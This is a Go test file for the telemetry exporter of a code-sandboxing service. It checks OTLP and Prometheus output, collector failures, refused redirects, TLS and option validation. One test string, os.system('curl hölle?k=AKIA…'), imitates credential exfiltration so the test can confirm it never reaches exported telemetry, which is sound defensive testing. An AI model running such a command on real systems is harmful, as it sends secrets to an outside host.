package telemetry

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"github.com/google/go-cmp/cmp"

	"sallyport/telemetry/telemetrytest"
)

// logged collects what a Telemetry has to say.
type logged struct {
	mu    sync.Mutex
	lines []string
}

func (l *logged) log(format string, args ...any) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.lines = append(l.lines, fmt.Sprintf(format, args...))
}

func (l *logged) text() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return strings.Join(l.lines, "\n")
}

func start(t *testing.T, o Options) (*Telemetry, *logged) {
	t.Helper()
	l := &logged{}
	o.Log = l.log
	tel, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { shut(t, tel, time.Second) })
	return tel, l
}

func shut(t *testing.T, tel *Telemetry, most time.Duration) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), most)
	defer cancel()
	if err := tel.Close(ctx); err != nil {
		t.Error(err)
	}
}

func step(s Step, from, to time.Time) Timing { return Timing{s, from, to.Sub(from)} }

// denied is a request that a rule denied, and ran one that ended.
func denied(at time.Time) Request {
	r := Request{Decision: "0190-d", Tool: "check", Language: "python", Effect: "deny", Reason: "policy", Denied: []string{"acme/no-pandas", "process"}}
	r.Steps = append(r.Steps, step(Judge, at, at.Add(2*time.Millisecond)))
	r.Steps = append(r.Steps, step(Record, at.Add(2*time.Millisecond), at.Add(3*time.Millisecond)))
	return r
}

func ran(at time.Time) Request {
	r := Request{Decision: "0190-a", Tool: "run_python_code", Language: "python", Effect: "allow", Reason: "policy",
		Ran: true, Backend: "gvisor", Ended: "timeout", Stopped: Stop{"code.eval", "object.__getattr__"}, Start: "warm"}
	r.Steps = append(r.Steps, step(Judge, at, at.Add(time.Millisecond)))
	r.Steps = append(r.Steps, step(Run, at.Add(time.Millisecond), at.Add(time.Second)))
	return r
}

func TestOTLP(t *testing.T) {
	for _, protocol := range []string{"", "http/protobuf", "grpc"} {
		t.Run(protocol, func(t *testing.T) {
			c := telemetrytest.New(t)
			tel, l := start(t, Options{Version: "1.2.3", OTLP: OTLP{
				Endpoint: c.URL, Protocol: protocol,
				Headers: map[string]string{"Authorization": "Bearer t0ken"}, Resource: map[string]string{"deployment.environment": "test"},
			}})
			at := time.Unix(1_700_000_000, 0)
			tel.Observe(denied(at))
			tel.Observe(ran(at))
			tel.ObserveQueue(Queue{Name: "runs", Waiting: 3, Running: 2, Waited: 40 * time.Millisecond})
			tel.ObserveExchange(Exchange{Rule: "weather", Outcome: "2xx", Sent: 3, Received: 5, Took: time.Millisecond})
			tel.ObserveExchange(Exchange{Outcome: "refused"})
			shut(t, tel, time.Minute)
			if l.text() != "" {
				t.Errorf("it complained: %s", l.text())
			}

			spans := c.Spans()
			if len(spans) != 6 {
				t.Fatalf("%d spans, want a root and two steps for each request", len(spans))
			}
			root, judge := spans[0], spans[1]
			if root.Name != "sallyport.request" || judge.Name != "sallyport.judge" ||
				!bytes.Equal(judge.ParentSpanId, root.SpanId) || !bytes.Equal(judge.TraceId, root.TraceId) || len(root.TraceId) != 16 {
				t.Errorf("root %v\nstep %v", root, judge)
			}
			if root.EndTimeUnixNano-root.StartTimeUnixNano != uint64(3*time.Millisecond) || root.StartTimeUnixNano != uint64(at.UnixNano()) {
				t.Errorf("the root took %d ns from %d", root.EndTimeUnixNano-root.StartTimeUnixNano, root.StartTimeUnixNano)
			}
			got := map[string]int64{}
			for _, p := range c.Metric("sallyport.denials").GetSum().DataPoints {
				got[p.Attributes[0].Value.GetStringValue()] = p.GetAsInt()
			}
			if want := map[string]int64{"acme/no-pandas": 1, "process": 1}; !cmp.Equal(got, want) {
				t.Errorf("denials %v, want %v", got, want)
			}
			h := c.Metric("sallyport.decision.duration").GetHistogram()
			if len(h.DataPoints) != 2 || h.DataPoints[0].Count != 1 || *h.DataPoints[1].Sum != 0.002 || len(h.DataPoints[0].BucketCounts) != len(h.DataPoints[0].ExplicitBounds)+1 {
				t.Errorf("decision.duration = %v", h)
			}
			if q := c.Metric("sallyport.queue.waiting").GetGauge(); q == nil || q.DataPoints[0].GetAsInt() != 3 {
				t.Errorf("queue.waiting = %v", q)
			}
			if s := c.Metric("sallyport.sandbox.starts"); s == nil || !strings.Contains(fmt.Sprint(s), "warm") {
				t.Errorf("sandbox.starts = %v", s)
			}
			if s := fmt.Sprint(c.Metric("sallyport.stops")); !strings.Contains(s, "code.eval") || !strings.Contains(s, "object.__getattr__") {
				t.Errorf("stops = %v", s)
			}
			if n := len(c.Metric("sallyport.egress.requests").GetSum().DataPoints); n != 2 {
				t.Errorf("%d series of egress.requests", n)
			}
			if s := fmt.Sprint(c.Metric("sallyport.egress.bytes")); !strings.Contains(s, "weather") || !strings.Contains(s, "received") {
				t.Errorf("egress.bytes = %v", s)
			}
			if h := c.Metric("sallyport.egress.duration").GetHistogram(); len(h.DataPoints) != 1 || *h.DataPoints[0].Sum != 0.001 {
				t.Errorf("egress.duration = %v", h)
			}
			res := c.Resource()
			if res["service.name"] != "sallyport" || res["service.version"] != "1.2.3" || res["deployment.environment"] != "test" {
				t.Errorf("resource %v", res)
			}
			if !bytes.Contains(c.Raw(), []byte("Bearer t0ken")) {
				t.Error("the header did not arrive")
			}
		})
	}
}

// Several servers of a host send to one collector, which tells them apart.
func TestServersOfAHost(t *testing.T) {
	c := telemetrytest.New(t)
	instances := map[string]bool{}
	for range 3 {
		tel, l := start(t, Options{Version: "1.2.3", OTLP: OTLP{Endpoint: c.URL}})
		tel.Observe(ran(time.Unix(1_700_000_000, 0)))
		shut(t, tel, time.Minute)
		if l.text() != "" {
			t.Errorf("it complained: %s", l.text())
		}
		instances[c.Resource()["service.instance.id"]] = true
	}
	if len(instances) != 3 || instances[""] {
		t.Errorf("three servers are %d instances: %v", len(instances), instances)
	}
}

// Text that a program, a model or a client chose gets nowhere, even from a
// caller that hands it over by mistake.
func TestOnlyWordsGetOut(t *testing.T) {
	const leak = "os.system('curl h\u00f6lle?k=AKIA" + "0123456789')"
	c := telemetrytest.New(t)
	tel, _ := start(t, Options{OTLP: OTLP{Endpoint: c.URL}, Prometheus: "127.0.0.1:0"})
	r := Request{Decision: leak, Tool: leak, Language: leak, Effect: leak, Reason: leak, Denied: []string{leak}, Ran: true, Backend: leak, Ended: leak, Stopped: Stop{leak, leak}, Start: leak, Failed: leak}
	r.Steps = append(r.Steps, step(Judge, time.Now(), time.Now()))
	tel.Observe(r)
	tel.ObserveQueue(Queue{Name: leak, Waiting: 1})
	tel.ObserveExchange(Exchange{Rule: leak, Outcome: leak, Sent: 1, Took: time.Second})
	page := scrape(t, tel)
	shut(t, tel, time.Minute)
	if all := page + string(c.Raw()); strings.Contains(all, "AKIA") || strings.Contains(all, "curl") || !strings.Contains(all, "other") {
		t.Errorf("it got out:\n%s", all)
	}
}

// A collector that refuses, fails or hangs costs telemetry, and nothing else.
func TestBadCollector(t *testing.T) {
	release := make(chan struct{})
	hangs := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		select {
		case <-release:
		case <-r.Context().Done():
		}
	}))
	t.Cleanup(hangs.Close)
	t.Cleanup(func() { close(release) })
	fails := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(503) }))
	t.Cleanup(fails.Close)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	gone := "http://" + l.Addr().String()
	l.Close()
	for _, tt := range []struct{ name, url, protocol string }{
		{"hangs", hangs.URL, ""}, {"fails", fails.URL, ""}, {"gone", gone, ""}, {"no gRPC", fails.URL, "grpc"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			// A collector that hangs would be waited for until the test is killed.
			tel, _ := start(t, Options{OTLP: OTLP{Endpoint: tt.url, Protocol: tt.protocol, Timeout: time.Hour}})
			for range 2 * queueLength {
				tel.Observe(denied(time.Now()))
			}
			shut(t, tel, 300*time.Millisecond)
			lost := 0.0
			for _, s := range tel.metrics.snapshot() {
				if s.name == dropped.name && s.labels[0].value == "traces" {
					lost = s.value
				}
			}
			if lost != 2*queueLength {
				t.Errorf("%v lost requests were counted, want %d", lost, 2*queueLength)
			}
		})
	}
}

func TestTroubleIsSaidOnce(t *testing.T) {
	var broken atomic.Bool
	broken.Store(true)
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		if broken.Load() {
			w.WriteHeader(503)
		}
	}))
	t.Cleanup(s.Close)
	tel, l := start(t, Options{OTLP: OTLP{Endpoint: s.URL}})
	tel.Observe(denied(time.Now()))
	e := &exporter{Telemetry: tel}
	for range 3 {
		e.sendMetrics(t.Context())
	}
	broken.Store(false)
	for range 2 {
		e.sendMetrics(t.Context())
	}
	if got := strings.Count(l.text(), "\n") + 1; got != 2 || !strings.Contains(l.text(), "503") {
		t.Errorf("%d lines, want one for the trouble and one for its end:\n%s", got, l.text())
	}
}

// Headers are secrets of the collector that was named.
func TestRedirectIsNotFollowed(t *testing.T) {
	var asked atomic.Int64
	thief := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked.Add(1) }))
	t.Cleanup(thief.Close)
	s := httptest.NewServer(http.RedirectHandler(thief.URL, http.StatusTemporaryRedirect))
	t.Cleanup(s.Close)
	tel, l := start(t, Options{OTLP: OTLP{Endpoint: s.URL, Headers: map[string]string{"X-Key": "k"}}})
	tel.Observe(denied(time.Now()))
	(&exporter{Telemetry: tel}).sendMetrics(t.Context())
	if asked.Load() != 0 || !strings.Contains(l.text(), "307") {
		t.Errorf("%d requests went elsewhere; log %q", asked.Load(), l.text())
	}
}

func TestValidate(t *testing.T) {
	for _, tt := range []struct {
		name, endpoint, protocol, prometheus, want string
	}{
		{"nothing", "", "", "", ""},
		{"collector", "http://127.0.0.1:4318", "grpc", "", ""},
		{"collector with TLS", "https://otel.example/otlp", "http/protobuf", "", ""},
		{"no scheme", "127.0.0.1:4318", "", "", "URL of a collector"},
		{"other scheme", "unix:///run/otel", "", "", "URL of a collector"},
		{"password in the URL", "https://me:secret@otel.example", "", "", "URL of a collector"},
		{"unknown protocol", "http://127.0.0.1:4318", "http/json", "", "http/json"},
		{"loopback", "", "", "127.0.0.1:9464", ""},
		{"loopback 6", "", "", "[::1]:9464", ""},
		{"localhost", "", "", "localhost:9464", ""},
		{"everybody", "", "", ":9464", "not a loopback"},
		{"everybody, in words", "", "", "0.0.0.0:9464", "not a loopback"},
		{"everybody in IPv6", "", "", "[::]:9464", "not a loopback"},
		{"another machine's", "", "", "192.168.1.5:9464", "not a loopback"},
		{"a name", "", "", "metrics.example:9464", "not a loopback"},
		{"a name that looks like one", "", "", "127.0.0.1.example:9464", "not a loopback"},
		{"no port", "", "", "127.0.0.1", "address and a port"},
		{"a service", "", "", "127.0.0.1:http", "address and a port"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			err := Options{OTLP: OTLP{Endpoint: tt.endpoint, Protocol: tt.protocol}, Prometheus: tt.prometheus}.Validate()
			if tt.want == "" && err != nil || tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)) {
				t.Errorf("Validate() = %v, want %q", err, tt.want)
			}
			if err != nil && strings.Contains(err.Error(), "secret") && tt.name != "password in the URL" {
				t.Error(err)
			}
		})
	}
	if tel, err := New(Options{}); tel != nil || err != nil {
		t.Errorf("New(Options{}) = %v, %v, want nothing at all", tel, err)
	}
}

func TestTLS(t *testing.T) {
	s := httptest.NewTLSServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
	t.Cleanup(s.Close)
	ca := []byte(pemOf(s.Certificate().Raw))
	for _, tt := range []struct {
		name string
		ca   []byte
		want string
	}{{"its CA", ca, ""}, {"the system's", nil, "certificate"}} {
		tel, l := start(t, Options{OTLP: OTLP{Endpoint: s.URL, CA: tt.ca}})
		tel.Observe(denied(time.Now()))
		(&exporter{Telemetry: tel}).sendMetrics(t.Context())
		if got := l.text(); (got == "") != (tt.want == "") || !strings.Contains(got, tt.want) {
			t.Errorf("%s: log %q, want %q", tt.name, got, tt.want)
		}
	}
	if err := (Options{OTLP: OTLP{Endpoint: s.URL, CA: []byte("x")}}).Validate(); err == nil {
		t.Error("a CA that is none is accepted")
	}
}

// However many rules an operator names, memory is bounded, and nothing is lost.
func TestSeriesAreBounded(t *testing.T) {
	m := newRegistry()
	for i := range 3 * maxSeries {
		m.add(denials, 1, label{"rule", fmt.Sprint("r", i)})
	}
	all, sum := m.snapshot(), 0.0
	for _, s := range all {
		sum += s.value
	}
	if len(all) != maxSeries+1 || sum != 3*maxSeries {
		t.Errorf("%d series that count %v, want %d that count %d", len(all), sum, maxSeries+1, 3*maxSeries)
	}
}

// slow is a collector that answers when it is let.
type slow struct{ began, release chan struct{} }

func (c slow) RoundTrip(r *http.Request) (*http.Response, error) {
	c.began <- struct{}{}
	select {
	case <-c.release:
		return &http.Response{StatusCode: http.StatusOK, Body: http.NoBody}, nil
	case <-r.Context().Done():
		return nil, r.Context().Err()
	}
}

// What is under way when a process ends is not lost, as long as there is time.
func TestExportUnderWayArrives(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		tel, l := start(t, Options{OTLP: OTLP{Endpoint: "http://127.0.0.1:1"}})
		c := slow{make(chan struct{}, 2), make(chan struct{})}
		tel.sender.client.Transport = c
		for range batchSize {
			tel.Observe(denied(time.Now()))
		}
		<-c.began
		go func() {
			synctest.Wait() // until Close waits for it
			close(c.release)
		}()
		shut(t, tel, time.Second)
		if len(c.began) != 1 || l.text() != "" {
			t.Errorf("%d exports began behind the one that was under way, want the metrics: %s", len(c.began), l.text())
		}
		for _, s := range tel.metrics.snapshot() {
			if s.name == dropped.name {
				t.Errorf("%v requests are lost", s.value)
			}
		}
	})
}
